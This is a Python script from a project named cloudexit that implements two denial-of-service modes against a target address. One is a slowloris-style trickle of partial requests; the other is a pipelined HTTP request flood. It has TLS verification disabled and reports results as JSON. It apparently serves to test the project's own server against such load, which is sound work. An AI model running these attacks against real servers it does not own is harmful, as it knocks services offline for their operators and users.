# Copyright (c) the cloudexit maintainers
# GNU General Public License v3.0-or-later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A client that means no good: flood.py ADDRESS slow CONNECTIONS SECONDS, or flood.py ADDRESS burst CONNECTIONS SECONDS

slow: opens connections, begins a request in each and goes on with a byte every two seconds.
burst: asks as fast as it can, many requests in one go. Prints as JSON what it got: connections opened, and closed by
the other side, and answers by status.
"""

from __future__ import annotations

import collections
import json
import re
import socket
import ssl
import sys
import threading
import time

PIPELINE = 20  # requests that are sent before the first answer is read
PORT = 443
REQUEST = b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n"
TIMEOUT = 10.0

seen: collections.Counter[str] = collections.Counter()
lock = threading.Lock()


def count(what: str, number: int = 1) -> None:
    with lock:
        seen[what] += number


def connect(address: str) -> ssl.SSLSocket:
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["http/1.1"])
    plain = socket.create_connection((address, PORT), timeout=TIMEOUT)
    try:
        return context.wrap_socket(plain)
    except OSError:
        plain.close()
        raise


def slow(address: str, end: float) -> None:
    """A connection that is never worth its place; anew when it is closed."""
    while time.monotonic() < end:
        try:
            with connect(address) as connection:
                count("opened")
                connection.sendall(REQUEST[:20])
                while time.monotonic() < end:
                    time.sleep(2)
                    connection.sendall(b"x")
        except OSError:
            count("closed by the other side")
            time.sleep(1)


def burst(address: str, end: float) -> None:
    while time.monotonic() < end:
        try:
            with connect(address) as connection:
                count("opened")
                while time.monotonic() < end:
                    connection.sendall(REQUEST * PIPELINE)
                    text = b""
                    while text.count(b"HTTP/1.1 ") < PIPELINE and (part := connection.recv(65536)):
                        text += part
                    for status in re.findall(rb"HTTP/1\.1 (\d+)", text):
                        count(status.decode())
                    if not text:
                        raise ConnectionError
        except OSError:
            count("closed by the other side")
            time.sleep(0.2)


def main() -> None:
    address, kind, connections, seconds = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    one = {"slow": slow, "burst": burst}[kind]
    threads = [threading.Thread(target=one, args=(address, end), daemon=True) for _number in range(int(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(float(seconds) + 2 * TIMEOUT)
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
